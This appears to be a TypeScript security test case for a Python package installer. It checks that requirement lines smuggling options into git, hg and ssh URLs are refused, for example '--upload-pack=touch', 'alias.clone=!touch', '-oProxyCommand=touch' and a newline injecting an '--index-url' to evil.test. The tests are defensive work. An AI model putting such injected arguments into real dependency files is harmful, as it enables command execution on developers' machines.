// SPDX-License-Identifier: Apache-2.0
import { EVIL as EVIL_HOST } from '../world/world.ts';
import { refused, type Attack, type Form, type NotTakenOut, type Scene } from './attack.ts';
import { installWords } from './evil-index.ts';
import { GOOD, type Stage } from './stage.ts';

const OLD_HOLES: NotTakenOut = {
  because: 'the installers of today withstand these by themselves; the check is for older ones',
};

function injected(name: string, line: string, more: Partial<Scene> = {}): Form {
  return {
    name,
    mount: (stage) => stage.write('requirements.txt', `${line}\n`),
    words: (stage) => installWords(stage, '-r', 'requirements.txt'),
    expect: refused('E-USAGE', 'WP-LOCKFILE-INVALID', { says: () => ['requirements.txt:1'] }),
    plain: null,
    defence: OLD_HOLES,
    lasting: true,
    ...more,
  };
}

const onGit = (ref: string): string => `good @ git+https://${EVIL_HOST}/good.git@${ref}`;

export const K11: Attack = {
  id: 'K11',
  title: 'arguments injected by a requirement',
  forms: [
    injected('a revision that is an option', onGit('--upload-pack=touch')),
    injected('the same, encoded', onGit('%2D%2Dupload-pack=touch')),
    injected('a revision of two lines', onGit('main%E2%80%A8--upload-pack=touch')),
    injected('hg --config', `good @ hg+https://${EVIL_HOST}/good@--config=alias.clone=!touch`),
    injected('a host that is an option', 'good @ git+ssh://-oProxyCommand=touch/good.git'),
    injected('two lines out of a variable', `good @ https://${EVIL_HOST}/\${TWO_LINES}`, {
      variables: () => ({ TWO_LINES: 'x.whl\n--index-url https://evil.test/simple/' }),
    }),
    {
      ...injected('a name that is an option', ''),
      words: (stage: Stage) => [...stage.install([]), '--', '-r evil.txt'],
      expect: refused('E-USAGE', ['WP-LOCKFILE-INVALID', 'WP-USAGE']),
    },
  ],
  twins: [
    {
      name: 'a variable that holds one word',
      mount: (stage) => stage.write('requirements.txt', `good @ \${PLACE}/${GOOD.filename}\n`),
      words: (stage) => installWords(stage, '-r', 'requirements.txt'),
      variables: (stage) => ({ PLACE: stage.packages.replace(/\/$/u, '') }),
    },
  ],
};
